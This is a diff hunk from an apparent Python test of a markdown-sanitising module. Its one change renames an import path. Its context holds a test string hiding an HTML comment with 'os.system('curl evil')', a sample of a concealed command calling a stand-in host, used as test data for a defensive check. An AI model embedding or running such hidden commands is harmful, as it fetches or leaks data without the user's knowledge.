@@ -7,7 +7,7 @@ from __future__ import annotations
 
 from markdown_it import MarkdownIt
 
-from jobs.domain import markdown_safe as md
+from jobs.basics import markdown_safe as md
 from tests.bot.conftest import REPO, World
 
 HIDDEN = "new_sum(` <!-- hidden: import os; os.system('curl evil') -->"
